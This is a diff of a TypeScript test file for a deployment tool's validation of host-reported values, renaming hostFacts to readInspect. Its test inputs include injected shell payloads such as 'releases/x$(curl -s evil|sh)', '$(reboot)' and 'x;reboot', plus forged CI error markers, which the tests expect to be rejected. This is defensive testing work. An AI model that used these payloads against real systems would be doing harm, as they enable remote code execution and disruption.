@@ -1,8 +1,10 @@
 /**
- * Issue 15, class 3: every value a host reports is checked against what it can be (hostFacts, parseHistory,
+ * Issue 15, class 3: every value a host reports is checked against what it can be (readInspect, parseHistory,
  * lockHolder, healthVerdict); a key reported twice is invalid, never joined or chosen between.
  */
-import { healthVerdict, holderName, hostFacts, lockHolder } from '../../src/commands/facts.js';
+import { healthVerdict } from '../../src/remote/steps/healthcheck.js';
+import { readInspect } from '../../src/remote/steps/inspect.js';
+import { holderName, lockHolder } from '../../src/remote/steps/lock.js';
 import { parseHistory, type InvalidValue } from '../../src/releases/history.js';
 import { isReleaseName } from '../../src/releases/name.js';
 import type { PhaseResult } from '../../src/remote/session.js';
@@ -14,27 +16,27 @@ function result(data: Record<string, string | string[]>): PhaseResult {
 
 const blob = (entries: string[]) => entries.map((e) => `${e}\0`).join('');
 
-describe('hostFacts', () => {
+describe('readInspect', () => {
   test('a value reported twice (a forged second `data live` marker) is invalid: neither value is used', () => {
-    const f = hostFacts(result({ live: ['releases/x\n::error::forged', 'releases/20240101000000'] }));
+    const f = readInspect(result({ live: ['releases/x\n::error::forged', 'releases/20240101000000'] }));
     expect(f.live).toBeUndefined();
     expect(f.liveTarget).toBe('');
     expect(f.invalid.map((v) => v.what)).toEqual([expect.stringContaining('"live", reported 2 times')]);
   });
 
   test('current: releases/NAME or an absolute plain path; anything else is invalid and never the live release', () => {
-    expect(hostFacts(result({ live: 'releases/20240101000000' })).live).toBe('20240101000000');
-    expect(hostFacts(result({ live: '/var/www/app/releases/7/' })).live).toBe('7');
-    const evil = hostFacts(result({ live: 'releases/x$(curl -s evil|sh)' }));
+    expect(readInspect(result({ live: 'releases/20240101000000' })).live).toBe('20240101000000');
+    expect(readInspect(result({ live: '/var/www/app/releases/7/' })).live).toBe('7');
+    const evil = readInspect(result({ live: 'releases/x$(curl -s evil|sh)' }));
     expect([evil.live, evil.liveTarget]).toEqual([undefined, '']);
     expect(evil.invalid[0]!.value).toBe('releases/x$(curl -s evil|sh)');
-    const dots = hostFacts(result({ live: 'releases/a..b' }));
+    const dots = readInspect(result({ live: 'releases/a..b' }));
     expect(dots.live).toBeUndefined();
     expect(dots.invalid.map((v) => v.value)).toEqual(['a..b']);
   });
 
   test('release directories, pending records and the base offer: release names only', () => {
-    const f = hostFacts(
+    const f = readInspect(
       result({
         releases: blob(['1700000000\treleases/good/', '1700000001\treleases/x\n::error::bad/', 'rev\treleases/good/\tabc123', '1700000002\treleases/r2/', 'rev\treleases/r2/\t##[error]x']),
         partial: 'p1\n$(reboot)\n',
@@ -50,14 +52,14 @@ describe('hostFacts', () => {
   });
 
   test('a blob sent twice (a manifest) is neither', () => {
-    const f = hostFacts(result({ 'base-name': 'r1', 'base-manifest': ['one', 'two'] }));
+    const f = readInspect(result({ 'base-name': 'r1', 'base-manifest': ['one', 'two'] }));
     expect(f.baseOffer).toEqual({ name: 'r1', manifestGz: undefined });
     expect(f.invalid).toHaveLength(1);
   });
 
   test('users: user names only', () => {
-    expect(hostFacts(result({ user: 'deploy', 'http-user': 'www-data' }))).toMatchObject({ user: 'deploy', httpUser: 'www-data' });
-    const f = hostFacts(result({ user: 'a b', 'http-user': 'x;reboot' }));
+    expect(readInspect(result({ user: 'deploy', 'http-user': 'www-data' }))).toMatchObject({ user: 'deploy', httpUser: 'www-data' });
+    const f = readInspect(result({ user: 'a b', 'http-user': 'x;reboot' }));
     expect([f.user, f.httpUser]).toEqual(['', undefined]);
     expect(f.invalid).toHaveLength(2);
   });
